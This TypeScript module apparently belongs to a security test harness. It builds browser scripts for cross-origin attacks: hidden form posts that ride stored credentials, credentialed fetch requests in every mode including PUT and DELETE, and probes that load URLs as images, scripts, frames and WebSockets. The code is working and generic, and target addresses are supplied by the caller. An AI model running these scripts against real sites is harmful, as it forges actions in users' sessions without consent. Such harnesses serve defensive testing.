/** Scripts that a page runs in a browser to attack another origin. */
const call = (script: string, ...values: readonly unknown[]): string =>
  `(${script})(${values.map((value) => JSON.stringify(value ?? null)).join(', ')})`;

export type Fields = Readonly<Record<string, string>>;

/** Opens a second window, in which the responses to forms are shown. */
export const openWindow = `void window.open('about:blank', 'second')`;

/** Sends a form to the other origin; the browser adds the credentials that it has stored for that origin. */
export const sendForm = (action: string, enctype: string, fields: Fields): string => call(FORM, action, enctype, fields);

/** Sends requests in every mode, with credentials; the result is what the page could read of the responses. */
export const fetchInEveryMode = (addresses: readonly string[], fields?: Fields): string => call(FETCH, addresses, fields);

/** Loads each URL as an image, script, stylesheet, frame and WebSocket; the result is a list of those that the page could load. */
export const loadInEveryWay = (addresses: readonly string[]): string => call(LOAD, addresses);

const FORM = `(action, enctype, fields) => {
  const form = Object.assign(document.createElement('form'), { method: 'post', action, enctype, target: 'second' });
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  document.body.append(form);
  form.submit();
  form.remove();
}`;

const FETCH = `async (addresses, fields) => {
  const json = JSON.stringify(fields);
  const headers = { 'Content-Type': 'application/json' };
  const multipart = () => Object.entries(fields).reduce((form, pair) => (form.append(...pair), form), new FormData());
  const requests = () => !fields ? [{}, { mode: 'no-cors' }] : [
    { method: 'POST', mode: 'no-cors', body: new URLSearchParams(fields) },
    { method: 'POST', mode: 'no-cors', body: json },
    { method: 'POST', body: new URLSearchParams(fields) },
    { method: 'POST', body: multipart() },
    { method: 'POST', headers, body: json },
    { method: 'PUT', headers, body: json },
    { method: 'DELETE' },
  ];
  const read = (address, options) => fetch(address, { credentials: 'include', ...options }).then((response) => response.text()).catch(() => '');
  const texts = await Promise.all(addresses.flatMap((address) => requests().map((options) => read(address, options))));
  return texts.filter((text) => text !== '');
}`;

const LOAD = `async (addresses) => {
  const loaded = [];
  const settled = (target, address, isReadable) => new Promise((resolve) => {
    target.addEventListener('error', resolve);
    for (const event of ['load', 'open']) target.addEventListener(event, () => resolve(isReadable() && loaded.push([address, event])));
  });
  const load = (tag, address, properties, isReadable = () => true) => {
    const element = Object.assign(document.createElement(tag), properties);
    const end = settled(element, address, () => isReadable(element));
    document.body.append(element);
    return end.then(() => element.remove());
  };
  const hasText = (frame) => { try { return frame.contentDocument.body.innerText !== ''; } catch { return false; } };
  const loadAll = (address) =>
    Promise.all([
      load('img', address, { src: address }),
      load('script', address, { src: address }),
      load('link', address, { rel: 'stylesheet', href: address }),
      load('iframe', address, { src: address }, hasText),
    ]);
  // After some failures the browser delays each further WebSocket by seconds, so all of them are opened at once.
  const sockets = addresses.map((address) => settled(new WebSocket(address.replace('http', 'ws')), address, () => true));
  // The browser opens only a few connections to one origin.
  while (addresses.length > 0) await Promise.all(addresses.splice(0, 8).map(loadAll));
  await Promise.all(sockets);
  return loaded;
}`;
